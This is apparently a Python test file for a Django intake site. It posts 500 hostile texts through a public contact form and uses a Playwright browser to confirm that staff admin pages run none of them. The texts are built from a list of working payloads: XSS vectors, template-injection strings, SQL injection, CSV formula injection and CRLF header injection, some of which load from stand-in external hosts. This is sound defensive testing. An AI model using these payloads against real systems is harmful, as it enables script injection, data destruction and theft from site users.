"""Five hundred hostile texts come through the public form; at the desk, scripts on, they are words and nothing else."""

from __future__ import annotations

import itertools
import re
import time
import urllib.parse
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, contextmanager

import pytest
from django.template import Context, Template
from playwright.sync_api import Browser, BrowserContext, Page, expect

from tests.journeys.conftest import PATIENCE, Site
from tests.journeys.test_family_and_coordinator import press, sign_in
from tests.journeys.test_plain_http import Fields, ask, rows
from tests.make import CODE, PAGES

pytestmark = [pytest.mark.journey, pytest.mark.browser, pytest.mark.long]

NUMBER = 500
TABS = 4
QUEUE = "/admin/intake/inquiry/"
FIRE = "window.fired=`invented-{n}`"
# What would run, if it were let; `{js}` is the marker, `{n}` the number of the text.
LIVE = (
    "<script>{js}</script>",
    "<ScRiPt/x>{js}</sCrIpT >",
    "</textarea></title></script><script>{js}</script>",
    "'\"><script>{js}</script>",
    "--><script>{js}</script><!--",
    "<script src=//invented-{n}.example/x.js></script>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror={js}>",
    "<img src=x onerror={js}>",
    "\"><img src='//invented-{n}.example/x' onerror='{js}'>",
    "<details open ontoggle={js}>",
    "<input autofocus onfocus={js}>",
    '" autofocus onfocus={js} x="',
    "<body onload={js}>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    '<iframe src="javascript:parent.{js}"></iframe>',
    "<object data='javascript:{js}'></object>",
    "<video><source onerror={js}></video>",
    "<meta http-equiv=refresh content='0;url=//invented-{n}.example/'>",
    "<base href='//invented-{n}.example/'>",
    "<link rel=stylesheet href='//invented-{n}.example/x.css'>",
    "<style>@import '//invented-{n}.example/x.css';</style>",
    "<form action='//invented-{n}.example/'><button autofocus>Claim {n}</button></form>",
    "<a href='javascript:{js}'>Claim {n}</a>",
    "javascript:{js}",
    "data:text/html,<script>{js}</script>",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "%3Cscript%3E{js}%3C/script%3E",
    "＜script＞{js}＜/script＞",
    "{{{{ {n} }}}}{{% debug %}}{{% include 'admin/base.html' %}}",
    "{{{{ ''.__class__.__mro__ }}}}{{% for x in ().__class__.__base__.__subclasses__() %}}{n}",
    "{{{{constructor.constructor('{js}')()}}}}",
    "${{{{{n}*7}}}} #{{{n}}} <%= {n} %> {{name}} {{coordinator}}",
    "%(name)s %s {{0}} {{0.__class__}} {n}",
    '=HYPERLINK("//invented-{n}.example/","x")',
    "=cmd|'/C calc'!A{n}",
    "+{n}+SUM(1)*cmd|' /C calc'!A0",
    "@SUM({n})",
    "'; DROP TABLE intake_inquiry; -- {n}",
    "{n}' OR '1'='1",
    "invented {n}\r\nSet-Cookie: a=b\r\nLocation: //invented.example/\r\n\r\n<script>{js}</script>",
    "[Claim {n}](javascript:{js}) ![x](//invented-{n}.example/x.png)",
    "\u202e>tpircs/<{n}\u202c \u2066{js}\u2069\u200b\u200d\ufeff",
    "a\u0301\u0327" * 60 + "{n}",
    "W{n}" + "o" * 3_000,
    "👩\u200d👩\u200d👧\u200d👦🏳️\u200d🌈🇺🇳 {n} ☠️ \U000e0041\U000e007f",
    "␀ %00 \\0 \\x00 \u0001\u0008\u001b[31m {n}",
    "<!--[if gte IE 4]><script>{js}</script><![endif]--> ]]> <![CDATA[{n}",
    "on{n}=x style=position:fixed;inset:0 class=main-button id=verbs name=version",
)
WRAPPED = (
    "{}",
    "She said: {} and left.",
    '"{}"',
    "<b title='{}'>",
    "<textarea>{}",
    "</div></section></main>{}",
    "{}\n\n{}",
    "<!-- {}",
    "'{}`",
    "\t{}",
)


def hostile_texts() -> list[str]:
    """From parts: what would run, in something that might set it free. Each has its own number."""
    pairs = itertools.islice(((wrap, live) for wrap in WRAPPED for live in LIVE), NUMBER)
    texts = []
    for n, (wrap, live) in enumerate(pairs):
        text = live.format(n=n, js=FIRE.format(n=n))
        texts.append(wrap.replace("{}", text)[:4_000])
    return texts


def plain(text: str) -> str:
    return " ".join(text.split())


# --- The families' side: real posts -------------------------------------------------------------------------------------------


def on_many_lines(work: Callable[[int], None], of: list[int]) -> None:
    with ThreadPoolExecutor(max_workers=6) as lines:
        list(lines.map(work, of))


def sent(site: Site, path: str, fields: dict[str, str]) -> str:
    answer = ask(f"{site.url}{path}", fields)
    assert answer.status == 303, (path, fields)
    assert "invented" not in answer.location.lower()
    return urllib.parse.urljoin(site.url, answer.location)


def write(site: Site, texts: list[str]) -> None:
    """Every text as name and words; every tenth family adds to it wherever the site lets it write."""
    numbers = list(range(len(texts)))
    forms: dict[int, dict[str, str]] = {}

    def look(n: int) -> None:
        forms[n] = Fields(ask(f"{site.url}/contact/").body).values

    def post(n: int) -> None:
        text = texts[n]
        email = f'"<svg/onload=fired={n}>"@example.org' if n % 25 == 0 else f"invented-{n}@example.org"
        fields = {"name": text[:190], "about": "someone", "reach": "email", "email": email, "voicemail": "no", "message": text}
        receipt = sent(site, "/contact/", forms[n] | fields)
        if n % 10 == 0:
            code = CODE.search(ask(receipt).body)[0]
            short = text[:190]
            more = {"reach": "email", "ways": "call", "phone": "202-555-0143", "ask_for": short, "never_mention": short}
            add(site, "contact", code, more)
            add(site, "reply", code, {"message": text})
            add(site, "details", code, {"person_name": short, "worry": text, "state": text[:60], "plan": short})

    on_many_lines(look, numbers)
    on_many_lines(post, numbers)
    deadline = time.monotonic() + 90
    while rows(site, "SELECT count(*) FROM intake_letter WHERE filed_at IS NULL") != [(0,)]:
        assert time.monotonic() < deadline
        time.sleep(0.2)


def add(site: Site, kind: str, code: str, fields: dict[str, str]) -> None:
    form = Fields(ask(f"{site.url}{PAGES[kind]}").body).values
    sent(site, PAGES[kind], form | fields | {"code": code})


# --- The desk's side: a real browser, scripts on ------------------------------------------------------------------------------


@contextmanager
def wary(browser: Browser, *, site: Site | None) -> Iterator[tuple[BrowserContext, list[str]]]:
    """A browser that writes down whatever a text could bring about. Nothing of it leaves this machine."""
    context = browser.new_context()
    context.set_default_timeout(PATIENCE)
    seen: list[str] = []

    def no_further(route) -> None:
        seen.append(f"asked for {route.request.url}")
        route.abort()

    ours = re.escape(site.desk) if site else "about:"
    context.route(re.compile(f"^(?!{ours})"), no_further)
    context.add_init_script(
        "document.addEventListener('securitypolicyviolation', (event) => console.error(`policy: ${event.violatedDirective}`))"
    )
    context.on("console", lambda message: seen.append(f"console: {message.text}") if message.type == "error" else None)
    context.on("weberror", lambda error: seen.append(f"error: {error.error}"))

    def dialog(one) -> None:
        seen.append(f"dialog: {one.message}")
        one.dismiss()

    context.on("dialog", dialog)
    yield context, seen
    context.close()


def nothing_happened(page: Page, seen: list[str]) -> None:
    """The page is ours: no marker, no word of a family in its title or address, and nothing else came about."""
    assert page.evaluate("window.fired") is None, page.url
    for told in (page.title(), urllib.parse.unquote(page.url)):
        assert not re.search("invented|script|fired|<|{", told), told
    # Chromium calls an answer with this status an error; that is the desk's answer to a search without a reason.
    assert [one for one in seen if "status of 422" not in one] == [], page.url


def read_stories(context: BrowserContext, site: Site, seen: list[str]) -> list[str]:
    """Every story, before and after somebody reads how to reach them; what stands there as their words.

    Several at a time: the desk answers one while the browser draws another.
    """
    found = []
    addresses = [f"{site.desk}{QUEUE}{key}/change/" for (key,) in rows(site, "SELECT id FROM intake_inquiry ORDER BY id")]
    tabs = [context.new_page() for _ in range(TABS)]
    for first in range(0, len(addresses), TABS):
        here = list(zip(tabs, addresses[first : first + TABS], strict=False))
        for tab, address in here:
            tab.goto(address, wait_until="commit")
        for tab, _address in here:
            tab.wait_for_load_state()
            nothing_happened(tab, seen)
        with ExitStack() as leaving:
            for tab, _address in here:
                leaving.enter_context(tab.expect_navigation())
            for tab, _address in here:
                tab.locator(".read-rule button").click(no_wait_after=True)
        for tab, _address in here:
            expect(tab.locator(".read-rule")).to_have_count(0)
            nothing_happened(tab, seen)
            found.append(plain(tab.locator(".wrote .words").text_content() or ""))
    for tab in tabs:
        tab.close()
    return found


def look_round(page: Page, site: Site, texts: list[str], seen: list[str]) -> None:
    """Lists, searches whose typed words are hostile too, and a message whose values are."""
    for path in ("", "?status=all", "?page=2", "?status=all&page=3", "find/", "shift/", "new/"):
        page.goto(site.desk + QUEUE + path)
        nothing_happened(page, seen)
    for typed, reason in (("invented", "another reason"), *((text, "") for text in texts[:: NUMBER // 20])):
        page.goto(f"{site.desk}{QUEUE}find/")
        page.locator("#typed").fill(plain(typed)[:250])
        page.locator("#find-reason").select_option(reason)
        press(page, "Find")
        nothing_happened(page, seen)
        assert bool(page.locator("#result_list").count()) == bool(reason)


def look_at_templates(page: Page, site: Site, seen: list[str]) -> int:
    """The lead words a message with the family's name in it, and looks at it for families of each kind; how many."""
    page.goto(f"{site.desk}/admin/intake/messagetemplate/add/")
    page.locator("#id_slug").fill("hello")
    page.locator("#id_language").select_option("en")
    page.locator("#id_title").fill("Hello")
    page.locator("#id_body").fill("Hello {name}, a plain message.")
    page.locator("[name=_save]").click()
    page.wait_for_load_state()
    ((template,),) = rows(site, "SELECT id FROM intake_messagetemplate")
    keys = [key for (key,) in rows(site, "SELECT id FROM intake_inquiry ORDER BY id LIMIT 12")]
    shown = 0
    for key in keys:
        page.goto(f"{site.desk}{QUEUE}{key}/change/")
        press(page, "Claim")
        nothing_happened(page, seen)
        page.goto(f"{site.desk}{QUEUE}{key}/template/{template}/")
        nothing_happened(page, seen)
        shown += page.locator("textarea[name=words]").count()
    return shown


def test_five_hundred_hostile_texts_execute_nothing_at_the_desk(desk: Site, chromium: Browser):
    texts = hostile_texts()
    assert len({plain(text) for text in texts}) == NUMBER
    write(desk, texts)
    assert rows(desk, "SELECT count(*) FROM intake_inquiry") == [(NUMBER,)]
    with wary(chromium, site=desk) as (context, seen):
        page = context.new_page()
        sign_in(page, desk, "dev-mia")
        look_round(page, desk, texts, seen)
        found = read_stories(context, desk, seen)
        assert look_at_templates(page, desk, seen) > 0
    # They were all there, word for word, and were looked at.
    assert sorted(found) == sorted(map(plain, texts))


def test_they_would_without_the_escaping(chromium: Browser):
    """The same texts in a page that trusts them: so many run that the proof above is one."""
    trusting = Template("{% autoescape off %}<main><p>{{ text }}</p></main>{% endautoescape %}")
    fired = 0
    with wary(chromium, site=None) as (context, seen):
        for text in hostile_texts()[: len(LIVE)]:
            page, before = context.new_page(), len(seen)
            page.set_content(trusting.render(Context({"text": text})), wait_until="commit")
            page.wait_for_timeout(150)
            fired += page.evaluate("window.fired") is not None or len(seen) > before
            page.close()
    assert fired >= 15
